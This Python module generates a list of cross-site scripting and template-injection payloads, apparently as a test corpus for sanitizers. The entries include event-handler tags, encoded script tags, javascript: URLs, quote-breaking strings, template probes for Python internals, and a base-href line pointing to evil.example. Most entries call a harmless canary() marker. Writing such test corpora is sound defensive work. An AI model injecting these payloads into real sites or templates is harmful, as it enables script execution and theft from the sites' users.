"""150 texts that would run a script, were one taken for markup: each calls `canary()` or opens a dialog."""

_CALL = "canary()"
_HANDLERS = (
    ("img", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"), ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"), ("details", "open", "ontoggle"), ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"), ("marquee", "", "onstart"),
    ("iframe", "", "onload"), ("object", "data=x", "onerror"), ("embed", "src=x", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("style", "", "onload"), ("form", "", "onfocusin"), ("div", "tabindex=1 autofocus", "onfocus"),
    ("math", "", "onclick"), ("button", "autofocus", "onfocus"), ("a", "href=# autofocus", "onfocus"),
    ("keygen", "autofocus", "onfocus"), ("source", "src=x", "onerror"), ("frameset", "", "onload"),
    ("p", "", "onmouseover"),
    ("b", "", "onanimationstart"),
)  # fmt: skip
_OPENINGS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>")
_SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script src=data:text/javascript,{_CALL}></script>",
    f"<script type=module>{_CALL}</script>",
    f"<<script>{_CALL}//<</script>",
    f"<script\n>{_CALL}</script\n>",
    f"<script/x>{_CALL}</script>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"\uff1cscript\uff1e{_CALL}\uff1c/script\uff1e",
)
_ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"&#106;avascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"vbscript:{_CALL}",
)
_TEMPLATES = (
    "{{ canary() }}",
    "{{7*7}}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${canary()}",
    "#{canary()}",
    "<%= canary() %>",
    "[[canary()]]",
    "{{constructor.constructor('canary()')()}}",
    "`${canary()}`",
    "');canary();//",
    '");canary();//',
    "';canary();'",
    "*/canary();/*",
    "\u2028canary()\u2029",
    "</style><script>canary()</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
    "<a href=javascript:canary()>press</a>",
    "<form action=javascript:canary()><button>go</button></form>",
    "<svg><animate onbegin=canary() attributeName=x>",
    "<svg><script>canary()</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=canary() />#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<template><img src=x onerror=canary()></template>",
    "<isindex action=javascript:canary() type=image>",
    "<x style=animation-name:rotation onanimationend=canary()>",
    "<link rel=import href=data:text/html,canary()>",
    "<style>@import 'javascript:canary()';</style>",
    "<img src=x:alert(1) onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<script>confirm(1);prompt(1)</script>",
    "<img src=x onerror=&#99;anary()>",
    "<a/href=x/onclick=canary()>press</a>",
)


def _payloads() -> tuple[str, ...]:
    made = [f"<{tag} {attributes} {handler}={_CALL}>" for tag, attributes, handler in _HANDLERS]
    made += [f'" {handler}="{_CALL}" x="' for _, _, handler in _HANDLERS]
    made += [f"' {handler}='{_CALL}' x='" for _, _, handler in _HANDLERS]
    made += [f"<{tag.upper()}\t{attributes}\n{handler} = '{_CALL}' >" for tag, attributes, handler in _HANDLERS]
    made += [f'"/><{tag}/{handler}="{_CALL}"//' for tag, _, handler in _HANDLERS]
    made += [f"{opening}<img src=x onerror={_CALL}>" for opening in _OPENINGS]
    made += [f"{opening}<svg/onload={_CALL}>" for opening in _OPENINGS]
    made += [f"{opening}<script>{_CALL}</script>" for opening in _OPENINGS[1:]]
    made += [*_SCRIPTS, *_ADDRESSES, *_TEMPLATES]
    return tuple(dict.fromkeys(made))


PAYLOADS = _payloads()
